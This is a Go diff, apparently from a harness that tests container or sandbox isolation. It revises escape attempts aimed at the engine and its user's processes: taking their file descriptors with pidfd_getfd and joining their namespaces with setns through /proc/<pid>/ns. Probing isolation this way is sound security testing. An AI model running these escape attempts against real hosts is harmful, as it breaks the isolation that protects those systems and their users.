@@ -55,7 +55,7 @@ func attemptsToApprove() []attempt {
 			return ""
 		}},
 		{family: approve, name: "the init's line to the engine by pidfd_getfd", do: func(w *world) string {
-			return stolen(append(inits(), w.Engine, w.Victim)...)
+			return stolen(targets(w)...)
 		}},
 		{family: approve, name: "an inherited descriptor", alone: true, do: func(*world) string {
 			fds, _ := os.ReadDir("/proc/self/fd")
@@ -83,6 +83,18 @@ func inits() []int {
 		list = append(list, pid)
 	}
 	return append(list, os.Getppid())
+}
+
+// targets are the inits, the engine and a process of its user, but for what has
+// their number in a name space of the attacker's own.
+func targets(w *world) []int {
+	list := inits()
+	for pid, started := range w.Started {
+		if p, ok := look(pid); !ok || p.start == started {
+			list = append(list, pid)
+		}
+	}
+	return list
 }
 
 // stolen takes a descriptor of another process.
@@ -132,7 +144,7 @@ func stayBy(name, script string) attempt {
 // toAll tries something on the inits, the engine and a process of its user.
 func toAll(name string, do func(w *world, pid int) error) attempt {
 	return attempt{family: escape, name: name, do: func(w *world) string {
-		for _, pid := range append(inits(), w.Engine, w.Victim) {
+		for _, pid := range targets(w) {
 			if pid <= 0 || pid == 1 && !w.Spaces || pid == os.Getpid() || w.Spaces && pid > 1 && pid != os.Getppid() {
 				continue // nobody here has that number, or another whom it is about
 			}
@@ -395,7 +407,7 @@ if os.fork()==0:
 			return "made one"
 		}},
 		{family: escape, name: "join the engine's name spaces", do: func(w *world) string {
-			for _, pid := range append(inits(), w.Engine, w.Victim) {
+			for _, pid := range targets(w) {
 				for _, kind := range []string{"pid", "mnt", "net", "user", "ipc", "uts", "cgroup"} {
 					if fd, err := unix.Open(fmt.Sprintf("/proc/%d/ns/%s", pid, kind), unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
 						err := unix.Setns(fd, 0)
